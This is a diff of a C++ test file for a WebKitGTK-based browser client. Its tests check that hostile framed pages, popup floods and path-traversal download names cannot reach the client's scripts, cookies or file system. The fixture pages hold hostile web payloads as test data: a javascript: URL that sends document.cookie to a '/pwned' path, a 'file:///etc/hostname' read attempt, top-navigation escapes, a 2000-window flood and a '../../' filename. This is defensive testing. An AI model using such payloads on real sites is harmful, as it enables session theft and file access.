@@ -22,7 +22,7 @@
 #include "window_fixture.h"
 #include "wx_text.h"
 
-#include <wx/webview.h>
+#include <webkit2/webkit2.h>
 
 namespace kwirl::test {
 namespace {
@@ -47,17 +47,101 @@ std::string portalPage(const std::string& head) {
     }
     if (path.find("name=pathnamedfile") != std::string::npos) {  // a file a hostile server names as a path
         return "HTTP/1.0 200 OK\r\nContent-Type: image/png\r\nContent-Length: 4\r\n"
-               "Content-Disposition: attachment; filename=\"/tmp/kwirl-engine-test.png\"\r\n\r\nPNG!";
+               "Content-Disposition: attachment; filename=\"../../tmp/kwirl-engine-test.png\"\r\n\r\nPNG!";
     }
     if (path.find("name=cutfile") != std::string::npos) {  // a file cut short: 4 of the 8 bytes announced
         return "HTTP/1.0 200 OK\r\nContent-Type: image/png\r\nContent-Length: 8\r\n"
                "Content-Disposition: attachment; filename=\"cut.png\"\r\n\r\nPNG!";
+    }
+    if (path.find("name=hostileframes") != std::string::npos) {  // frames of another site, one sandboxed
+        const std::string frame = "http://localhost:" + path.substr(path.rfind('=') + 1) + "/frame";
+        return htmlReply(
+            "<html><body><script>document.cookie = 'portal_login=SECRET-SESSION-123';</script>"
+            "<iframe src='" +
+            frame +
+            "?plain'></iframe>"
+            "<iframe sandbox='allow-scripts' src='" +
+            frame + "?sandboxed'></iframe></body></html>");
+    }
+    if (path.find("name=flood") != std::string::npos) {  // a page asking for thousands of windows at once
+        return htmlReply(
+            "<html><body><script>var handlers = (window.webkit && window.webkit.messageHandlers) || {};"
+            "for (var i = 0; i < 2000; ++i) {"
+            " try { handlers.kwirlNewWindow.postMessage('javascript:document.title=' + i); } catch (e) {}"
+            " try { window.open('javascript:document.title=' + i); } catch (e) {} }"
+            "new Image().src = '/index.php?name=flooded';</script></body></html>");
     }
     if (path.find("name=popup") != std::string::npos) {
         return htmlReply("<html><body><script>window.open('/index.php?name=champday');</script></body></html>");
     }
     // Enough text that loading takes a few progress steps.
     return htmlReply("<html><body><h1>" + path + "</h1>" + std::string(200000, ' ') + "</body></html>");
+}
+
+// A page of another site, framed by a portal page: it tries every way a page
+// had to reach the client's own scripts, to move the whole view, and to run
+// its script in the portal's page (where it would read the portal's cookie),
+// each time it is shown; then it says it is done.
+std::string hostileFrame(const std::string& head) {
+    if (pathOf(head).find("/frame") != 0) return htmlReply("<html><body>elsewhere</body></html>");
+    const std::string game = baseAddress() + "?name=puzzle3&op=game&level=2";
+    return htmlReply(
+        "<html><body><input><script>"
+        "var home = location.protocol + '//' + location.host, sandboxed = location.search === '?sandboxed';"
+        "var handlers = (window.webkit && window.webkit.messageHandlers) || {};"
+        "function post(name, value) { try { handlers[name].postMessage(value); } catch (e) {} }"
+        "window.addEventListener('pageshow', function () {"
+        " var steal = \"javascript:location='\" + home + \"/pwned?cookie='+encodeURIComponent(document.cookie)\";"
+        " [steal, 'file:///etc/hostname', 'data:text/html,moved', home + '/moved'].forEach(function (a) {"
+        "  post('kwirlNewWindow', a); });"
+        " post('kwirlFrameShown', '" +
+        game +
+        "');"
+        " post('kwirlTextFocus', true);"
+        " try { window.open(steal); } catch (e) {}"
+        " if (sandboxed) { try { window.open(home + '/moved'); top.location = home + '/moved'; } catch (e) {} }"
+        " new Image().src = home + '/done' + location.search + '&' + Date.now();"
+        "});</script></body></html>");
+}
+
+// Processes of the engine's `program` started by this process (through bubblewrap).
+std::vector<int> engineProcessesOf(int ancestor, const char* program = "WebKitWebProcess") {
+    namespace fs = std::filesystem;
+    const auto parentOf = [](int pid) {
+        std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
+        std::string line;
+        std::getline(stat, line);
+        const auto close = line.rfind(')');
+        if (close == std::string::npos) return 0;
+        std::istringstream rest(line.substr(close + 2));
+        std::string state;
+        int parent = 0;
+        rest >> state >> parent;
+        return parent;
+    };
+    std::vector<int> found;
+    for (const auto& entry : fs::directory_iterator("/proc")) {
+        const std::string name = entry.path().filename();
+        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
+        std::ifstream cmdline(entry.path() / "cmdline");
+        std::string command((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
+        if (command.find(program) == std::string::npos || command.find("bwrap") != std::string::npos) continue;
+        for (int pid = std::stoi(name); pid > 1; pid = parentOf(pid)) {
+            if (pid == ancestor) {
+                found.push_back(std::stoi(name));
+                break;
+            }
+        }
+    }
+    return found;
+}
+
+// The engine's view in the window: the one widget inside the browser's window.
+WebKitWebView* viewOf(TFrm& window) {
+    GList* children = gtk_container_get_children(GTK_CONTAINER(window.CBW->Window()->GetHandle()));
+    auto* view = WEBKIT_WEB_VIEW(children->data);
+    g_list_free(children);
+    return view;
 }
 
 class EngineTest : public ::testing::Test {
@@ -157,15 +241,70 @@ TEST_F(EngineTest, TheAddressShownIsThePageCommittedNotTheOneBeingLoaded) {
 // The engine asks the window before each navigation; a filter that raises
 // instead of answering leaves the navigation cancelled.
 TEST_F(EngineTest, AFilterThatFailsLeavesTheNavigationCancelled) {
-    frame->CBW->OnBeforeNavigate2 = [](TCppWebBrowser*, void*, const std::string&, std::int32_t, const std::string&,
-                                       const std::string&, const std::string&, std::int16_t& cancel) {
+    const auto filter = frame->CBW->OnBeforeNavigate2;
+    int asked = 0;
+    frame->CBW->OnBeforeNavigate2 = [&](TCppWebBrowser*, void*, const std::string&, std::int32_t, const std::string&,
+                                        const std::string&, const std::string&, std::int16_t& cancel) {
+        ++asked;
         cancel = 0;
         throw std::runtime_error("the filter failed");
     };
-    wxWebViewEvent navigating(wxEVT_WEBVIEW_NAVIGATING, frame->CBW->Window()->GetId(), toWx(pageAddress("awards")), "");
-    navigating.SetEventObject(frame->CBW->Window());
-    EXPECT_THROW(frame->CBW->Window()->ProcessWindowEvent(navigating), std::runtime_error);
-    EXPECT_FALSE(navigating.IsAllowed());
+    frame->CBW->Navigate(pageAddress("awards"));
+    ASSERT_TRUE(runLoopUntil([&] { return asked == 1; }, 20000));
+    frame->CBW->OnBeforeNavigate2 = filter;
+    frame->CBW->Navigate(pageAddress("champday"));
+    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("champday"); }, 20000));
+    EXPECT_FALSE(served(pageAddress("awards")));
+}
+
+// Frames of another site (one of them sandboxed to scripts alone) try, each
+// time they are shown, every way in: the client's own scripts' messages, a
+// script address as a new window, moving the whole view. None reaches the
+// portal's page or its cookie, the view moves only where the filter let it,
+// the buttons keep the captions of the page shown, and Alt+Left goes back.
+TEST_F(EngineTest, FramesOfAnotherSiteReachNothingOfTheClients) {
+    LoopbackServer other(0, httpResponder(hostileFrame));
+    const auto done = [&] {
+        const auto lines = other.requestLines();
+        return std::count_if(lines.begin(), lines.end(),
+                             [](const std::string& l) { return l.find("/done") != l.npos; });
+    };
+    const std::string framing = pageAddress("hostileframes") + "&port=" + std::to_string(other.port());
+    frame->CBW->Navigate(framing);
+    ASSERT_TRUE(runLoopUntil([&] { return done() == 2; }, 20000));
+    frame->CBW->Navigate(pageAddress("awards"));
+    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("awards"); }, 20000));
+    frame->CBW->GoBack();  // the framing page and its frames from the history: shown again
+    ASSERT_TRUE(runLoopUntil([&] { return done() == 4; }, 20000));
+    EXPECT_EQ(frame->CBW->LocationURL(), framing);
+    EXPECT_EQ(captions(), (std::vector<std::string>{"1", "2", "3", "4", "5", "6"}));
+
+    ASSERT_EQ(std::system("xdotool key alt+Left"), 0);
+    EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == startPageAddress(); }, 20000));
+    for (const auto& line : other.requestLines()) {
+        EXPECT_EQ(line.find("SECRET"), line.npos) << line;
+        EXPECT_EQ(line.find("/pwned"), line.npos) << line;
+        EXPECT_EQ(line.find("/moved"), line.npos) << line;
+    }
+    for (const auto& navigation : navigations) {
+        EXPECT_TRUE(navigation.rfind("http:", 0) == 0 || navigation == "about:blank") << navigation;
+    }
+}
+
+// A page floods the view with requests for new windows at script addresses,
+// and its process ends: the client's page stands for the portal's page as it
+// was shown, and loads that page again by itself.
+TEST_F(EngineTest, AfterAFloodOfScriptWindowsTheEndedPageComesBackAsThePortalsPage) {
+    frame->CBW->Navigate(pageAddress("flood"));
+    ASSERT_TRUE(runLoopUntil([&] { return served(pageAddress("flooded")); }, 20000));
+    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("flood"); }, 20000));
+    for (const int pid : engineProcessesOf(getpid())) kill(pid, SIGKILL);
+    const auto requests = [&] {
+        const auto lines = server->requestLines();
+        return std::count(lines.begin(), lines.end(), "GET /index.php?name=flood HTTP/1.1");
+    };
+    EXPECT_TRUE(runLoopUntil([&] { return requests() == 2; }, 20000));
+    EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("flood"); }, 20000));
 }
 
 // A page that cannot be loaded: the client's page stands in for it in its own
@@ -173,18 +312,28 @@ TEST_F(EngineTest, AFilterThatFailsLeavesTheNavigationCancelled) {
 // the page before it however often it was tried. An attempt that is stopped
 // does not stop the attempts.
 TEST_F(EngineTest, APageThatCannotBeLoadedIsTriedAgainInItsOwnPlace) {
-    auto* view = static_cast<wxWebView*>(frame->CBW->Window());
+    WebKitWebView* view = viewOf(*frame);
     int failures = 0;
-    view->Bind(wxEVT_WEBVIEW_ERROR, [&](wxWebViewEvent& event) {
-        ++failures;
-        event.Skip();
-    });
-    const auto shows = [&](const char* title) { return fromWx(view->GetCurrentTitle()) == title; };
+    const auto onFailed = +[](WebKitWebView*, WebKitLoadEvent, gchar*, GError*, gpointer count) {
+        ++*static_cast<int*>(count);
+        return FALSE;
+    };
+    const gulong failed = g_signal_connect(view, "load-failed", G_CALLBACK(onFailed), &failures);
+    const auto shows = [&](const char* title) {
+        const gchar* shown = webkit_web_view_get_title(view);
+        return shown && std::string(shown) == title;
+    };
+    const auto pagesBack = [&] {
+        GList* back = webkit_back_forward_list_get_back_list(webkit_web_view_get_back_forward_list(view));
+        const guint count = g_list_length(back);
+        g_list_free(back);
+        return count;
+    };
     const std::uint16_t port = unusedLoopbackPort();
     const std::string away = "http://127.0.0.1:" + std::to_string(port) + "/index.php?name=awards";
     frame->CBW->Navigate(away);
     ASSERT_TRUE(runLoopUntil([&] { return shows("The portal cannot be reached"); }, 20000));
-    const auto pagesBefore = view->GetBackwardHistory().size();
+    const auto pagesBefore = pagesBack();
 
     // A portal that takes requests and never answers: an attempt stays in flight.
     auto silent = std::make_unique<LoopbackServer>(port, [](LoopbackServer& portal, int fd) {
@@ -194,55 +343,24 @@ TEST_F(EngineTest, APageThatCannotBeLoadedIsTriedAgainInItsOwnPlace) {
     });
     frame->CBW->Reload();
     ASSERT_TRUE(runLoopUntil([&] { return silent->requestLines().size() == 1; }, 20000));
-    const int failed = failures;
+    const int failedBefore = failures;
     frame->CBW->Stop();
-    ASSERT_TRUE(runLoopUntil([&] { return failures > failed; }, 20000));
+    ASSERT_TRUE(runLoopUntil([&] { return failures > failedBefore; }, 20000));
     frame->CBW->Reload();
     ASSERT_TRUE(runLoopUntil([&] { return silent->requestLines().size() == 2; }, 20000));
     silent.reset();  // the attempt ends without an answer
     ASSERT_TRUE(runLoopUntil([&] { return shows("The page could not be loaded"); }, 20000));
-    EXPECT_EQ(view->GetBackwardHistory().size(), pagesBefore);
+    EXPECT_EQ(pagesBack(), pagesBefore);
 
     LoopbackServer back(port, httpResponder(portalPage));
     frame->CBW->Reload();
-    ASSERT_TRUE(runLoopUntil([&] { return !back.requestLines().empty() && !view->IsBusy(); }, 20000));
+    ASSERT_TRUE(runLoopUntil([&] { return !back.requestLines().empty() && !webkit_web_view_is_loading(view); }, 20000));
     EXPECT_EQ(frame->CBW->LocationURL(), away);
     // Each attempt passed the window's filter: the first load and three attempts.
     EXPECT_EQ(std::count(navigations.begin(), navigations.end(), away), 4);
     frame->CBW->GoBack();
     EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == startPageAddress(); }, 20000));
-}
-
-// Processes of the engine's `program` started by this process (through bubblewrap).
-std::vector<int> engineProcessesOf(int ancestor, const char* program = "WebKitWebProcess") {
-    namespace fs = std::filesystem;
-    const auto parentOf = [](int pid) {
-        std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
-        std::string line;
-        std::getline(stat, line);
-        const auto close = line.rfind(')');
-        if (close == std::string::npos) return 0;
-        std::istringstream rest(line.substr(close + 2));
-        std::string state;
-        int parent = 0;
-        rest >> state >> parent;
-        return parent;
-    };
-    std::vector<int> found;
-    for (const auto& entry : fs::directory_iterator("/proc")) {
-        const std::string name = entry.path().filename();
-        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
-        std::ifstream cmdline(entry.path() / "cmdline");
-        std::string command((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
-        if (command.find(program) == std::string::npos || command.find("bwrap") != std::string::npos) continue;
-        for (int pid = std::stoi(name); pid > 1; pid = parentOf(pid)) {
-            if (pid == ancestor) {
-                found.push_back(std::stoi(name));
-                break;
-            }
-        }
-    }
-    return found;
+    g_signal_handler_disconnect(view, failed);
 }
 
 std::string namespaceOf(int pid, const char* kind) {
@@ -265,39 +383,34 @@ TEST_F(EngineTest, WebContentRunsInTheEnginesSandbox) {
     EXPECT_TRUE(runLoopUntil([&] { return served(pageAddress("puzzle3") + "&op=game&level=1"); }, 20000));
 }
 
-// A file whose suggested name is a path ends the engine's network process
-// before the window is asked where to save it (the engine's own fault), and
-// the engine never tells that download's end. Nothing is written, the next
-// page loads, and the window still closes cleanly (TearDown).
-TEST_F(EngineTest, AFileNamedAsAPathSavesNothingAndTheWindowClosesCleanly) {
-    const char* hostilePath = "/tmp/kwirl-engine-test.png";
-    std::filesystem::remove(hostilePath);
-    ASSERT_FALSE(engineProcessesOf(getpid(), "WebKitNetworkProcess").empty());
-    // The engine's download, seen as it starts.
-    GObject* context = nullptr;
-    g_object_get(static_cast<wxWebView*>(frame->CBW->Window())->GetNativeBackend(), "web-context", &context, nullptr);
-    bool started = false;
-    const auto onStarted = +[](GObject*, GObject*, gpointer flag) { *static_cast<bool*>(flag) = true; };
-    const gulong handler = g_signal_connect(context, "download-started", G_CALLBACK(onStarted), &started);
-    // Should the engine ask where to save it after all, nothing is chosen.
-    frame->CBW->OnFileDownload = [](TCppWebBrowser*, const std::string&, std::string& chosen, bool& replace) {
-        chosen.clear();
+// A file whose suggested name climbs out of folders ("../../name"): the
+// window is asked where to save it under the plain name, and the file is
+// written there and nowhere else.
+TEST_F(EngineTest, AFileNamedAsAPathIsOfferedUnderItsPlainName) {
+    const auto chosen = std::filesystem::temp_directory_path() / "kwirl-engine-test-chosen.png";
+    const char* climbed = "/tmp/kwirl-engine-test.png";
+    std::filesystem::remove(chosen);
+    std::filesystem::remove(climbed);
+    std::string suggested;
+    frame->CBW->OnFileDownload = [&](TCppWebBrowser*, const std::string& name, std::string& path, bool& replace) {
+        suggested = name;
+        path = chosen.string();
         replace = false;
     };
+    bool ended = false;
+    std::string failure;
+    frame->CBW->OnDownloadComplete = [&](TCppWebBrowser*, const std::string&, const std::string& why) {
+        ended = true;
+        failure = why;
+    };
     frame->CBW->Navigate(pageAddress("pathnamedfile"));
-    ASSERT_TRUE(runLoopUntil([&] { return served(pageAddress("pathnamedfile")); }, 20000));
-    // The network process ends by the engine's own fault, before or after it
-    // tells the download's start: where it still runs, it is ended here, so
-    // the test waits on no engine's timing.
-    const auto networkGone = [] { return engineProcessesOf(getpid(), "WebKitNetworkProcess").empty(); };
-    runLoopUntil([&] { return started || networkGone(); }, 20000);
-    for (const int pid : engineProcessesOf(getpid(), "WebKitNetworkProcess")) kill(pid, SIGKILL);
-    ASSERT_TRUE(runLoopUntil(networkGone, 20000));
-    g_signal_handler_disconnect(context, handler);
-    g_object_unref(context);
-    frame->CBW->Navigate(pageAddress("awards"));
-    EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("awards"); }, 20000));
-    EXPECT_FALSE(std::filesystem::exists(hostilePath));
+    ASSERT_TRUE(runLoopUntil([&] { return ended; }, 20000));
+    EXPECT_EQ(suggested, "kwirl-engine-test.png");
+    EXPECT_EQ(failure, "");
+    std::ifstream saved(chosen);
+    EXPECT_EQ(std::string(std::istreambuf_iterator<char>(saved), std::istreambuf_iterator<char>()), "PNG!");
+    EXPECT_FALSE(std::filesystem::exists(climbed));
+    std::filesystem::remove(chosen);
 }
 
 // A file the server cuts short, fewer bytes than it announced, which the
